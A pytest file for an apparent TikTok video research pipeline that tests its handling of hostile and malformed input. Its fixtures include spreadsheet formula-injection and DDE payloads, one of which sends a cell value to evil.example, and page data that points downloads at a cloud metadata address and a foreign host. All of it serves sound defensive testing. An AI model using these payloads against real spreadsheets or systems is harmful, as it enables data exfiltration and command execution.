"""Hostile and careless input (issue 14): each probe is one bad input, and each ends as one
recorded line or a safe output, never a traceback or a lost result."""

from __future__ import annotations

import csv
import json
import subprocess
from pathlib import Path

import pandas as pd
import pytest
from support.download import case_catalog, run_job, setup_run
from support.workflow import run_snakemake

from tiktok_research.accounting.export import export_dataset
from tiktok_research.config import load
from tiktok_research.database import open_database
from tiktok_research.errors import DatabaseError, DownloadError, OcrError, OverCap, SearchError
from tiktok_research.fakeweb.media import ensure_media
from tiktok_research.fakeweb.server import FakeWeb
from tiktok_research.process.ocr.claude import ClaudeOcrEngine
from tiktok_research.records import error_record
from tiktok_research.registry import Job, Services, load_task
from tiktok_research.runtime.host import execute

HOSTILE_CELLS = {
    "caption": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "transcript": "+cmd|' /C calc'!A0",
    "ocr_text": "@SUM(1+1)*cmd|' /C calc'!A0",
    "title": "-2+3+cmd|' /C calc'!A0",
    "author": "\tTAB=1+1",
    "hashtags": "\r=1+1",
}


def test_csv_cells_that_a_spreadsheet_would_run_are_text(tmp_path: Path) -> None:
    row = {"video_id": "101", "like_count": -3, "frame_count": 2, **HOSTILE_CELLS,
           "url": "https://www.tiktok.com/@a/video/101"}
    videos = [{"query_index": 0, "query": "=1+1 ramen",
               "videos": {"101": {"outcome": "published", "dataset_row": row}}}]
    parquet, csv_path = export_dataset(videos, tmp_path / "d.parquet", tmp_path / "d.csv")
    with csv_path.open(newline="", encoding="utf-8") as handle:
        [cells] = list(csv.DictReader(handle))
    for name, value in HOSTILE_CELLS.items():
        assert cells[name] == "'" + value, name
    assert cells["queries"] == "'=1+1 ramen"
    # Numbers and harmless text are as they were; the Parquet file keeps every value.
    assert (cells["like_count"], cells["frame_count"]) == ("-3", "2")
    assert cells["url"] == row["url"]
    frame = pd.read_parquet(parquet)
    assert {name: frame.iloc[0][name] for name in HOSTILE_CELLS} == HOSTILE_CELLS


@pytest.mark.parametrize("dsn", [
    "host=127.0.0.1 port=1 user=u password=open sesame please dbname=x",  # libpq refuses it
    "host=127.0.0.1 port=1 user=u password='open sesame please' dbname=x",
    "postgresql://u:open%20sesame%20please@127.0.0.1:1/x",
])
def test_no_form_of_database_url_leaks_its_password(dsn, monkeypatch) -> None:
    monkeypatch.setenv("DATABASE_URL", dsn)
    with pytest.raises(DatabaseError) as raised:
        open_database({"database": {"backend": "postgres"}})
    record = error_record(raised.value, {"video_id": "1"}, attempt=1, default_type="upload")
    for text in (str(raised.value), json.dumps(record)):
        assert "postgres:" in text
        for word in ("open", "sesame", "please"):
            assert word not in text, text


def big_field_list(workdir: Path) -> str:
    (workdir / "big.csv").write_text('query,topic\nramen,food\n"' + "a" * 200_000 + '",x\n',
                                     encoding="utf-8")
    return "big.csv"


@pytest.mark.parametrize(("setting", "expected"), [
    (lambda workdir: {"research_list": "folder"},
     "research list folder is a folder, not a CSV file"),
    (lambda workdir: {"research_list": big_field_list(workdir)},
     "research list big.csv, line 3: field larger than field limit (131072)"),
    (lambda workdir: {"output_dir": "out{put}"},
     "config key 'output_dir': 'out{put}' contains { or }, which Snakemake reads as a "
     "wildcard; choose a path without them"),
], ids=["list is a folder", "field over 128 KiB", "braces in output_dir"])
def test_bad_local_input_is_one_line(tmp_path: Path, setting, expected) -> None:
    (tmp_path / "folder").mkdir()
    result = run_snakemake(tmp_path, setting(tmp_path), "-n", timeout=120)
    assert result.returncode != 0
    assert expected in result.stderr.splitlines(), result.stderr[-2000:]
    assert "Traceback" not in result.stderr + result.stdout


@pytest.mark.parametrize("body", [{"videos": 5}, {"videos": "5"}, {"videos": {"link": "x"}}])
def test_an_odd_serper_reply_is_a_recorded_search_failure(fake_web, tmp_path, monkeypatch,
                                                         body) -> None:
    monkeypatch.setenv("SERPER_API_KEY", "k")
    fake_web.fail("serper", 200, times=None, body=body)
    config = load({"output_dir": str(tmp_path / "out"), "serper.base_url": fake_web.base_url,
                   "serper.backoff_seconds": 0.01, "tiktok.hosts": [fake_web.host]})
    urls = tmp_path / "out" / "queries" / "q" / "urls.json"
    job = Job(task="search", key="q", config=config, outputs={"urls": str(urls)},
              params={"query": {"index": 0, "query": "ramen", "meta": {}}})
    services = Services()
    with pytest.raises(SearchError) as raised:
        execute(job, load_task("search"), services)
    assert raised.value.retryable and not urls.exists()
    [record] = services.recorded
    assert record["type"] == "search" and record["query"] == "ramen"
    assert f"'videos' as {type(body['videos']).__name__}, not a list" in record["error"]
    assert "gave up after 4 attempts" in record["error"]


MESSAGE = {"id": "msg_1", "type": "message", "role": "assistant", "model": "claude-haiku-4-5",
           "stop_reason": "end_turn", "stop_sequence": None}
USAGE = {"usage": {"input_tokens": 10, "output_tokens": 3}}


def text_block(text):
    return {**MESSAGE, **USAGE, "content": [{"type": "text", "text": text}]}


@pytest.mark.parametrize(("body", "expected", "billed"), [
    ("not json", "with a body that is not JSON", 0),
    ([1, 2, 3], "not a Messages response (no usage", 0),
    ({**MESSAGE, **USAGE, "content": "a string"}, "not a Messages response (content: str)", 1),
    ({**MESSAGE, "content": [{"type": "text", "text": '{"items": []}'}]}, "(no usage", 0),
    (text_block(5), "a text block whose text is not a string", 1),
    (text_block('{"items": 5}'), "JSON without a list of items ('items' is int)", 1),
], ids=["not JSON", "an array", "string content", "no usage", "text not a string",
        "items not a list"])
def test_an_odd_anthropic_reply_is_a_retryable_ocr_failure(fake_web, tmp_path, monkeypatch,
                                                           body, expected, billed) -> None:
    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-ant-test-0123456789")
    frame = tmp_path / "001_t0.0s.jpg"
    subprocess.run(["ffmpeg", "-v", "error", "-f", "lavfi", "-i", "color=c=red:s=16x16",
                    "-frames:v", "1", str(frame)], check=True)
    fake_web.fail("anthropic", 200, body=body,
                  headers={"Content-Type": "application/json"} if isinstance(body, str) else None)
    engine = ClaudeOcrEngine(base_url=fake_web.base_url, max_retries=0)
    with pytest.raises(OcrError) as raised:
        engine.read(frame)
    assert expected in str(raised.value) and raised.value.retryable
    record = error_record(raised.value, {"video_id": "1"}, attempt=1, default_type="process")
    assert record["type"] == "process" and record["details"]["reason"] in ("bad_reply",
                                                                          "bad_answer")
    # A reply with its usage was billed: it counts, whatever its answer was.
    assert engine.usage.requests == billed


HOSTILE_ITEMS = {
    "odd types": {"author": "someone", "textExtra": ["#a", "b"], "stats": [1, 2],
                  "statsV2": "many", "music": 5, "challenges": "c", "desc": {"text": "x"},
                  "stickersOnItem": [5, None], "locationCreated": ["JP"]},
    "odd numbers": {"createTime": 10**20, "stats": {"diggCount": 10**30, "playCount": "1e999",
                                                     "shareCount": float("nan")},
                    "video": {"duration": "1e999", "width": float("inf"), "height": -1e308}},
}


def test_odd_page_data_after_a_good_download_leaves_valid_metadata(tmp_path, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    catalog, videos = case_catalog(
        {name: ("ok", {"item_patch": patch}) for name, patch in HOSTILE_ITEMS.items()},
        seed=14, duration=10.0)
    ensure_media(list(videos.values()))
    with FakeWeb(catalog) as web:
        for name, video in videos.items():
            config = setup_run(web, video, tmp_path)
            records: list = []
            metadata = run_job(video.video_id, config, tmp_path, records)
            folder = tmp_path / "output" / "videos" / video.video_id
            assert records == [], name
            assert (folder / "video.mp4").stat().st_size > 0
            # What was written is strict JSON (no NaN or Infinity) and says what it knows.
            written = json.loads((folder / "metadata.json").read_text(),
                                 parse_constant=lambda constant: pytest.fail(constant))
            assert written == metadata and written["video_id"] == video.video_id
    assert written["create_time"] is None and written["duration"] is None
    assert written["width"] is None and written["height"] is None
    # The broken `stats` are passed over for statsV2's exact counts.
    assert written["like_count"] == int(catalog.videos[written["video_id"]].stats["diggCount"])


def test_a_broken_failures_json_is_written_anew_from_the_records(tmp_path) -> None:
    """failures.json is an output of the run summary, never read or appended to: a truncated
    or hand-edited one is replaced by the records in the run's database."""
    from test_report import make_run

    from tiktok_research.accounting.summarise import summarise_after_failure
    from tiktok_research.queries import all_queries

    config, out = make_run(tmp_path)
    (out / "failures.json").write_text('[{"type": "download", "error": "trunc', encoding="utf-8")
    progress = summarise_after_failure(config, all_queries(config))
    failures = json.loads((out / "failures.json").read_text())
    assert [(f["type"], f["video_id"]) for f in failures] == [("download", "202")]
    assert progress["stats"]["download_failed"] == 1


@pytest.fixture(scope="module")
def one_video_site():
    catalog, videos = case_catalog({"ok": ("ok", {})}, seed=15, duration=10.0)
    ensure_media(list(videos.values()))
    with FakeWeb(catalog) as web:
        yield web, videos["ok"]


@pytest.mark.parametrize(("tiktok", "cap", "expected"), [
    ({"max_video_bytes": 1000}, "tiktok.max_video_bytes", "the source announces"),
    ({"max_duration_seconds": 5}, "tiktok.max_duration_seconds", "the video lasts 10 s"),
    ({"max_pixels": 1000}, "tiktok.max_pixels", "its frames are"),
    ({"download_deadline_seconds": 0.2}, "tiktok.download_deadline_seconds", "took longer"),
], ids=["bytes", "duration", "pixels", "deadline"])
def test_a_video_over_a_cap_is_a_recorded_failure_naming_it(one_video_site, tmp_path,
                                                            monkeypatch, tiktok, cap,
                                                            expected) -> None:
    monkeypatch.chdir(tmp_path)
    web, video = one_video_site
    config = setup_run(web, video, tmp_path, **tiktok)
    records: list = []
    with pytest.raises(DownloadError) as raised:
        run_job(video.video_id, config, tmp_path, records)
    assert cap in str(raised.value) and expected in str(raised.value)
    [record] = records
    assert record["type"] == "download" and cap in record["error"]
    folder = tmp_path / "output" / "videos" / video.video_id
    assert not (folder / "video.mp4").exists()
    assert [p.name for p in folder.glob("*.part")] == []


async def endless(url: str, start: int, end: int) -> tuple[int, str, bytes]:
    """A source that answers every range in full and never says how big it is."""
    return 206, "", b"\0" * (end - start + 1)


def test_a_source_without_a_total_is_read_no_further_than_the_cap(tmp_path) -> None:
    import asyncio

    from tiktok_research.download.transfer import fetch_to
    from tiktok_research.download.verify import Caps

    target = tmp_path / "video.part"
    with pytest.raises(OverCap, match=r"at least 5120 bytes, over tiktok.max_video_bytes"):
        asyncio.run(fetch_to(endless, "https://cdn/x", target, 1024, Caps(max_bytes=5000)))
    assert target.stat().st_size <= 5000


def test_page_data_cannot_aim_the_fetch_at_another_host(one_video_site, tmp_path,
                                                        monkeypatch) -> None:
    """Sources on another host (here the fake site under another name, an internal address
    and a foreign https host) are skipped: no request leaves for them with the cookies."""
    monkeypatch.chdir(tmp_path)
    web, video = one_video_site
    port = web.host.rsplit(":", 1)[1]
    elsewhere = f"http://localhost:{port}/video/tos/elsewhere.mp4"
    video.item_patch = {"video": {"playAddr": elsewhere, "bitrateInfo": [],
                                  "PlayAddrStruct": {"UrlList": ["http://169.254.169.254/x"]},
                                  "downloadAddr": "https://evil.example/x.mp4"}}
    before = len(web.requests_to("tiktok"))
    try:
        config = setup_run(web, video, tmp_path)
        records: list = []
        with pytest.raises(DownloadError, match="no source on an allowed host"):
            run_job(video.video_id, config, tmp_path, records)
    finally:
        video.item_patch = {}
    assert [r.path for r in web.requests_to("tiktok")[before:]
            if r.header("host", "").startswith("localhost")] == []
    assert records and "tiktok.cdn_hosts" in records[0]["error"]


def test_no_web_origin_may_drive_the_browser_and_site_isolation_stays_on(tmp_path) -> None:
    """A page of any site (an Origin header) is refused on the DevTools port, as zendriver's
    own connection (no Origin) is not; Chromium keeps site isolation; its sandbox is on unless
    the run is root."""
    import os

    import httpx
    from websockets.exceptions import InvalidStatus
    from websockets.sync.client import connect

    from tiktok_research.download.pool import BrowserPool
    from tiktok_research.download.session import BrowserSettings

    pool = BrowserPool()
    try:
        pool.prestart(BrowserSettings(profiles_dir=tmp_path / "profiles"))
        [pid] = pool.browser_pids()
        arguments = Path(f"/proc/{pid}/cmdline").read_bytes().decode().split("\0")
        assert not any(a.startswith("--remote-allow-origins") for a in arguments)
        disabled = [a for a in arguments if a.startswith("--disable-features=")]
        assert not any("site-per-process" in a or "IsolateOrigins" in a for a in disabled)
        assert ("--no-sandbox" in arguments) == (os.geteuid() == 0)
        port = next(a.split("=", 1)[1] for a in arguments
                    if a.startswith("--remote-debugging-port="))
        url = httpx.get(f"http://127.0.0.1:{port}/json/version").json()["webSocketDebuggerUrl"]
        with pytest.raises(InvalidStatus, match="403"):
            connect(url, origin="http://evil.example").close()
        connect(url).close()  # what zendriver does
    finally:
        pool.close()
